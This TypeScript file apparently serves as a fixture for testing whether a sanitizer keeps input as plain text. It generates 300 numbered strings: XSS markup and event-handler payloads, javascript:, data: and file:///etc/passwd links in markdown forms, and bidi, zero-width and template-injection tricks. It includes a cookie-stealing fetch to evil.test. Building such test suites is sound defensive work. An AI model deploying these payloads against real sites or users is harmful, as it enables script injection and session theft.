/** What must stay text wherever it turns up: markup, links, handlers, schemes, and tricks with characters. */
const scripts = ["alert('x')", 'window.pwned=1', "fetch('https://evil.test/'+document.cookie)"];

const elements = scripts.flatMap((code) => [
  `<script>${code}</script>`,
  `<img src=x onerror="${code}">`,
  `<svg onload="${code}"></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<body onload="${code}">`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<details open ontoggle="${code}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${code}">`,
  `<video><source onerror="${code}"></video>`,
  `<a href="javascript:${code}">click</a>`,
  `<form action="javascript:${code}"><button>go</button></form>`,
  `<math><mtext></p><img src=x onerror="${code}"></mtext></math>`,
  `<template><script>${code}</script></template>`,
  `<noscript><img src=x onerror="${code}"></noscript>`,
  `"><script>${code}</script>`,
  `'"--></style></title><script>${code}</script>`,
  `<style>@import 'https://evil.test/x.css';</style><script>${code}</script>`,
  `<object data="javascript:${code}"></object>`,
  `<marquee onstart="${code}">x</marquee>`,
  `<<script>script>${code}<</script>/script>`,
]);

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'https://evil.test/?q=secret',
  '//evil.test/x.png',
  'http://evil.test:8080/beacon',
  'file:///etc/passwd',
  'blob:https://evil.test/1',
  'ftp://evil.test/x',
];

const links = addresses.flatMap((address) => [
  `[click](${address})`,
  `![image](${address})`,
  `<${address}>`,
  `[click]: ${address}\n\n[click]`,
  `[click][a]\n\n[a]: ${address} "title"`,
  `![image][b]\n\n[b]: ${address}`,
  `[§1.1](${address})`,
  `[§1.1]: ${address}\n\n[§1.1]`,
  `<a href="${address}">x</a>`,
  `<img src="${address}">`,
  `[![x](${address})](${address})`,
  `see ${address} there`,
  `**[x](${address})**`,
  `| a |\n|---|\n| [x](${address}) |`,
  `> ![x](${address})`,
]);

const characters = [
  '\u202Egnp.exe\u202C',
  '\u2066hidden\u2069',
  '\u200B\u200Bzero\u200Dwidth',
  'Z\u0351\u036Balgo'.repeat(10),
  '\u0000null',
  '\uFFFD\uFFFE',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '{{constructor.constructor("alert(1)")()}}',
  ['$', '{alert(1)}'].join(''),
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '~~~\n<img src=x onerror=alert(1)>',
  '[§1.1\u202E]',
  '__proto__',
];

/** 300 of them, each told from the others by its number. */
export const payloads: readonly string[] = [...elements, ...links, ...characters].map(
  (text, n) => `${n} ${text}`,
);
